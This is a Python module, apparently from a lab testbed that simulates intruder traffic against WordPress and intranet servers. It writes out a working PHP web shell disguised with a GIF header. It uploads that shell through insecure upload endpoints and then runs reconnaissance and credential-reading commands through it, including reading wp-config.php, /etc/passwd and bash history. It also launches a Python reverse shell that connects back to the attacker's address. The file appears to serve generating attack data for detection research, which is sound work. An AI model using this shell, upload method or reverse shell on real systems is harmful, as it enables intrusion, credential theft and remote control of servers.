"""A web shell: through the careless upload plug-in or form, then used in two styles."""

import base64
import json
import random
import socket
import time
from urllib.parse import quote, quote_plus

from actors.http import Session

UPLOAD = {"access": "attacker_http:foothold:webshell_upload"}
COMMAND = {"access": "attacker_http:foothold:webshell_cmd"}
# Both styles run what they are told: as plain text, or as base64 of a JSON list of words.
SHELL = """GIF89a<?php
$given = $_REQUEST['%s'] ?? '';
$list = json_decode(base64_decode($given), true);
system(is_array($list) ? implode(' ', $list) : $given);
"""
COMMANDS = """id;whoami;uname -a;pwd;ls -la;ls /home;cat /etc/passwd;cat /etc/group;ip addr;ip route;ss -tln;netstat -tulpn;ps aux;env;hostname;w;last;df -h;mount;cat /etc/os-release;cat /proc/version;
cat /etc/crontab;ls -la /var/www;cat /var/www/site/wp-config.php;find / -maxdepth 2 -perm -4000;sudo -n -l;ls -la /tmp;cat /etc/hosts;cat /etc/resolv.conf;which python3 perl nc curl wget;ls /var/backups;
php -v;cat /home/*/.bash_history;ls -la /root;head -n 5 /etc/ssh/sshd_config;grep -r password /var/www/site/wp-config.php;echo hello > /tmp/x;cat /tmp/x;rm /tmp/x;find /var/www -name *.sql;uptime;free -m;
mysql -u wordpress -plab -e 'show tables' wordpress;date;arp -a;dpkg -l;cat /etc/sudoers;ls /etc/cron.d;getent passwd root;stat /etc/shadow;tar -cf /tmp/a.tar /etc/hosts;ls -R /var/www/html;
python3 -c 'print(1)';wget http://127.0.0.1/robots.txt -O -;curl -s http://127.0.0.1/;touch /var/tmp/.a;chmod +x /var/tmp/.a;crontab -l;lsof -i;nproc;lscpu;cat /proc/meminfo""".replace("\n", "").split(";")


def _multipart(field, name, content, extra=""):
    boundary = "----bound" + str(time.time_ns())
    head = "".join(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in extra)
    body = f'{head}--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{name}"\r\nContent-Type: image/gif\r\n\r\n{content}\r\n--{boundary}--\r\n'
    return body.encode(), {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def upload(lab):
    """Put shells on both servers. Returns [(host, site, path)]."""
    bed = lab.testbed
    lab.attacker.enter()
    shells = []
    agents = ["python-requests/2.28.1", "curl/7.88.1", *bed.intruder.tool_agents]
    content = SHELL % bed.intruder.shell_param
    folder = time.strftime("/wp-content/uploads/%Y/%m/")
    for i in range(1 if bed.short else 5):
        name = bed.intruder.shell_file if i == 0 else f"{bed.intruder.shell_file.removesuffix('.php')}{i}.php"
        session = Session(lab.web.address, bed.www, bed.intruder.address, agents[i % len(agents)])
        with lab.journal.step(f"upload-plugin-{i}", "script", [bed.intruder.address], UPLOAD):
            body, headers = _multipart("picture", name, content, [("action", "guest_files")])
            session.request("/wp-admin/admin-ajax.php", "POST", body, headers=headers)
        shells.append((lab.web, bed.www, folder + name))
    if not bed.short:
        for i in range(4):
            name = f"{['doc', 'inc', 'x', 'cache'][i]}-{bed.seed}.php"
            session = Session(lab.intra.address, f"intranet.{bed.domain}", bed.intruder.address, agents[i % len(agents)])
            with lab.journal.step(f"upload-form-{i}", "script", [bed.intruder.address], UPLOAD):
                body, headers = _multipart("file", name, content)
                session.request("/tools/upload.php", "POST", body, headers=headers)
            shells.append((lab.intra, f"intranet.{bed.domain}", "/tools/files/" + name))
    return shells


def _encode(words, style, rng):
    """A command as a parameter's value, in one of the styles intruders use."""
    if style == "plain":
        return rng.choice([quote_plus(words), quote(words), quote(words, safe="/;'*$-_.")])
    coded = base64.b64encode(json.dumps(words.split(), separators=(",", ":")).encode()).decode()
    return quote(coded) if rng.random() < .5 else coded.rstrip("=") if rng.random() < .5 else coded


def use(lab, shells):
    """Look around through the shells."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 600)
    lab.attacker.enter()
    agents = ["python-requests/2.28.1", "curl/7.88.1", *bed.intruder.tool_agents]
    for number, (host, site, path) in enumerate(shells):
        # The first shell of a testbed speaks the style of its name; the others alternate.
        style = ("base64" if bed.intruder.shell_param == "wp_meta" else "plain") if number == 0 else ("plain", "base64")[number % 2]
        session = Session(host.address, site, bed.intruder.address, agents[number % len(agents)])
        with lab.journal.step(f"shell-{style}-{number}", "script", [bed.intruder.address], COMMAND):
            for words in rng.sample(COMMANDS, 12 if bed.short else 34):
                target = f"{path}?{bed.intruder.shell_param}={_encode(words, style, rng)}"
                if rng.random() < .08:
                    session.request(path, "POST", f"{bed.intruder.shell_param}={_encode(words, style, rng)}")
                else:
                    session.request(target)
                time.sleep(rng.uniform(.05, .4))


def reverse(lab, shell, port, typed):
    """Start a reverse shell with a terminal through `shell` and type into it. typed: [(seconds to wait, text)].

    The request that starts it is a web shell command; what is typed must be journalled by the caller.
    """
    bed = lab.testbed
    host, site, path = shell
    lab.attacker.enter()
    code = (f"import socket,os,pty;s=socket.create_connection((\"{bed.intruder.address}\",{port}));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")")
    listener = socket.create_server((bed.intruder.address, port))
    listener.settimeout(10)
    # setsid: the shell must outlive the request, or the web server's worker would wait for it.
    command = f"setsid python3 -c '{code}' >/dev/null 2>&1 &"
    with lab.journal.step(f"reverse-shell-{port}", "script", [bed.intruder.address], COMMAND):
        Session(host.address, site, bed.intruder.address, "curl/7.88.1").request(f"{path}?{bed.intruder.shell_param}={quote(command)}")
    try:
        connection, _ = listener.accept()
    except TimeoutError:
        return ""
    finally:
        listener.close()
    heard = b""
    with connection:
        connection.settimeout(.2)
        for wait, act in typed:
            time.sleep(wait)
            if callable(act):
                act()
                continue
            connection.sendall(act.encode() + b"\n")
            try:
                heard += connection.recv(65536)
            except TimeoutError:
                pass
    return heard.decode(errors="replace")
